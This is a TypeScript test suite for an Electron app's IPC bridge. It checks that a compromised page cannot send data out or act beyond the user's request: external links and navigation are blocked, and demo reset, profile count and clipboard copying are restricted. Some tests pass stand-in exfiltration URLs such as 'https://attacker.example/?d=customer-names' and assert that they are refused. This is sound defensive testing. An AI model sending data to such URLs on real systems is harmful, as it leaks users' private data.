import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import type { WebContents } from 'electron';
import { MAX_PROFILES, OPERATION_NAMES, TOO_MANY_PROFILES, type ProfileMeta } from '../../shared';
import { ApiError } from '../../electron/client';
import { TEST_KEY, TEST_KEY_2, newProfile } from '../unit/core/fixtures';
import { bridgeStack, okData } from './bridge-stack';

const openExternal = vi.fn(async (_url: string) => {});
vi.mock('electron', () => ({ shell: { openExternal } }));
const { hardenWebContents } = await import('../../electron/main/security');

/**
 * Ways a compromised page could send data out of the app or act beyond what the user asked
 * (issue 20, findings 1, 4, 5 and 6), each through the real BridgeIpc class and router.
 */

const ROOT = join(import.meta.dirname, '../..');
const sources = (dir: string): string[] =>
  readdirSync(join(ROOT, dir), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.ts')).map((f) => join(dir, f));

describe('finding 1: no URL the page names reaches the system browser', () => {
  it('links.open is gone: the bridge answers unknown_operation and nothing is opened', async () => {
    const s = bridgeStack();
    expect(OPERATION_NAMES).not.toContain('links.open');
    const r = await s.invoke('links.open', { url: 'https://attacker.example/?d=customer-names' });
    expect(r).toMatchObject({ ok: false, error: { kind: 'unknown_operation' } });
    expect(openExternal).not.toHaveBeenCalled();
  });

  it('navigation and window.open are denied without handing the URL to the system browser', () => {
    const handlers = new Map<string, (...a: unknown[]) => void>();
    let openHandler: ((d: { url: string }) => { action: string }) | undefined;
    const contents = {
      on: (name: string, fn: (...a: unknown[]) => void) => handlers.set(name, fn),
      setWindowOpenHandler: (fn: typeof openHandler) => { openHandler = fn; },
    } as unknown as WebContents;
    hardenWebContents(contents);
    const exfil = 'https://attacker.example/?d=%D7%93%D7%A0%D7%94';
    const e = { preventDefault: vi.fn() };
    handlers.get('will-navigate')?.(e, exfil);
    expect(e.preventDefault).toHaveBeenCalledOnce();
    expect(openHandler?.({ url: exfil })).toEqual({ action: 'deny' });
    expect(openExternal).not.toHaveBeenCalled();
  });

  it('no code in main or the core calls shell.openExternal', () => {
    const callers = [...sources('electron/main'), ...sources('electron/core')].filter((f) => /openExternal/.test(readFileSync(join(ROOT, f), 'utf8')));
    expect(callers).toEqual([]);
  });
});

describe('finding 5: demo.reset only with the demo profile active', () => {
  it('refuses while a real profile is active (no sandbox started, nothing wiped), resets once the demo is active', async () => {
    const s = bridgeStack();
    const demo = okData<ProfileMeta>(await s.invoke('demo.start', {}));
    const real = okData<ProfileMeta>(await s.invoke('profiles.add', newProfile()));
    okData(await s.invoke('profiles.activate', { id: real.id }));
    const started = s.demo.started;
    const refused = await s.invoke('demo.reset', {});
    expect(refused).toMatchObject({ ok: false, error: { kind: 'invalid_request', code: 'not_demo_profile' } });
    expect(s.demo.resets).toBe(0);
    expect(s.demo.started).toBe(started);
    okData(await s.invoke('profiles.activate', { id: demo.id }));
    expect(okData(await s.invoke('demo.reset', {}))).toEqual({ reset: true });
    expect(s.demo.resets).toBe(1);
  });

  it('refuses with no profile active', async () => {
    const s = bridgeStack();
    expect(await s.invoke('demo.reset', {})).toMatchObject({ ok: false, error: { kind: 'no_profile' } });
    expect(s.demo.resets).toBe(0);
  });
});

describe('finding 6: at most MAX_PROFILES connection profiles', () => {
  it(`refuses the ${MAX_PROFILES + 1}th profile (session-only ones count) with a clear message, before any question is asked`, async () => {
    const s = bridgeStack();
    for (let i = 0; i < MAX_PROFILES; i++) okData(await s.invoke('profiles.add', newProfile(TEST_KEY, { name: `Fake ${i}`, session_only: i % 2 === 0 })));
    const before = s.store.dump();
    s.host.clipboard = TEST_KEY_2;
    const refused = await s.invoke('profiles.add', newProfile(TEST_KEY_2, { name: 'One more', key: { source: 'clipboard' }, session_only: true }));
    expect(refused).toMatchObject({ ok: false, error: { kind: 'invalid_request', code: TOO_MANY_PROFILES } });
    expect(refused.ok ? '' : refused.error.message).toContain(`at most ${MAX_PROFILES} connection profiles`);
    expect(s.host.keyQuestions).toHaveLength(0);
    expect(okData<{ profiles: ProfileMeta[] }>(await s.invoke('profiles.list', {})).profiles).toHaveLength(MAX_PROFILES);
    expect(s.store.dump()).toBe(before);
    // The demo profile counts too; removing one makes room again.
    expect(await s.invoke('demo.start', {})).toMatchObject({ ok: false, error: { code: TOO_MANY_PROFILES } });
    const first = okData<{ profiles: ProfileMeta[] }>(await s.invoke('profiles.list', {})).profiles[0]!;
    okData(await s.invoke('profiles.remove', { id: first.id }));
    okData(await s.invoke('profiles.add', newProfile(TEST_KEY_2, { name: 'One more' })));
  });
});

describe('finding 4: clipboard.copy takes only what the app copies', () => {
  const RECORD_ID = '3f2b8c1e-9a4d-4e7b-8c21-5d6e7f809a1b';

  it('refuses free text, also text shaped like a request id that main never showed (an account number)', async () => {
    const s = bridgeStack();
    s.host.clipboard = 'the user copied this';
    for (const text of ['IL620108000000099999999', '12-345-678901', 'INV-1042', 'anything\nelse', 'x'.repeat(500)]) {
      const r = await s.invoke('clipboard.copy', { text });
      expect(r.ok, text).toBe(false);
      expect(r.ok ? null : r.error.kind, text).toBe('invalid_input');
    }
    expect(s.host.clipboard).toBe('the user copied this');
  });

  it('copies record ids, and the request ids of the replies, errors and activity log main has shown', async () => {
    const s = bridgeStack();
    const p = okData<ProfileMeta>(await s.invoke('profiles.add', newProfile()));
    okData(await s.invoke('profiles.activate', { id: p.id }));
    s.api.routes['customers.get'] = () => ({ data: { id: RECORD_ID }, request_id: 'req_OK_20261125' });
    s.api.routes['customers.delete'] = () => { throw new ApiError({ kind: 'api', status: 409, code: 'invalid_state', message: 'no', request_id: 'req_FAIL_20261125' }); };
    okData(await s.invoke('api.call', { route: 'customers.get', params: { id: RECORD_ID } }));
    expect(await s.invoke('api.call', { route: 'customers.delete', params: { id: RECORD_ID } })).toMatchObject({ ok: false, error: { request_id: 'req_FAIL_20261125' } });
    for (const text of [RECORD_ID, 'req_OK_20261125', 'req_FAIL_20261125']) {
      expect(await s.invoke('clipboard.copy', { text }), text).toEqual({ ok: true, data: { copied: true } });
      expect(s.host.clipboard).toBe(text);
    }
  });

  it('the activity log cannot launder a request id: one main never showed is not kept', async () => {
    const s = bridgeStack();
    const p = okData<ProfileMeta>(await s.invoke('profiles.add', newProfile()));
    okData(await s.invoke('profiles.activate', { id: p.id }));
    okData(await s.invoke('activity.record', { route: 'customers.create', area: 'customers', record_id: null, name: 'Acme', outcome: 'ok', request_id: '12-345-678901' }));
    const { entries } = okData<{ entries: { request_id?: string }[] }>(await s.invoke('activity.list', {}));
    expect(entries[0]?.request_id).toBeUndefined();
    expect((await s.invoke('clipboard.copy', { text: '12-345-678901' })).ok).toBe(false);
  });
});
